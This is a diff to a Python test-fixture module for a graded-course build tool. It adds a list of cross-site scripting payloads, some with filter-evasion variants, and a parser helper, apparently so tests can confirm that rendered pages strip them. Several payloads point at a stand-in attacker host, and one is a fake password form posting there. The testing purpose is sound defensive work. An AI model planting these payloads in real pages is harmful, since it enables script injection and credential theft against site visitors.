@@ -1,6 +1,7 @@
 """A small graded course, made without running anything: what each test of the pages and exports starts from."""
 
 import shutil
+from html.parser import HTMLParser
 from pathlib import Path
 
 import jupytext
@@ -17,6 +18,41 @@ ROOT = Path(__file__).parents[2]
 TEST = 'assert double(2) == 4\n### BEGIN HIDDEN TESTS\nassert double(-3) == -6, "secret"\n### END HIDDEN TESTS'
 SOLUTION = "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION"
 TASK = "Draw it.\n\n=== BEGIN MARK SCHEME ===\nA straight line.\n=== END MARK SCHEME ==="
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
+    "<img src=x onerror=alert(1)>",
+    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
+    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](java\tscript:alert(1))",
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href=" &#1; javascript:alert(1)">x</a>',
+    "![p](data:text/html;base64,PHNjcmlwdD4=)",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
+    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
+    '<div style="background:url(javascript:alert(1));position:fixed">x</div>',
+    '<style>body { background: url("https://evil.example") }</style><link rel=stylesheet href=//evil.example>',
+    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example>",
+    "</div></div></body></html><body onload=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    '<details ontoggle=alert(1) open>x</details>',
+]  # fmt: skip
+
+
+class Tags(HTMLParser):
+    """All tags of a page with their attributes, and its text."""
+
+    def __init__(self, page):
+        super().__init__()
+        self.tags, self.text = [], ""
+        self.feed(page)
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.append((tag, dict(attributes)))
+
+    def handle_data(self, data):
+        self.text += data
 
 
 def make_course(root: Path, notebooks=("toy",)):
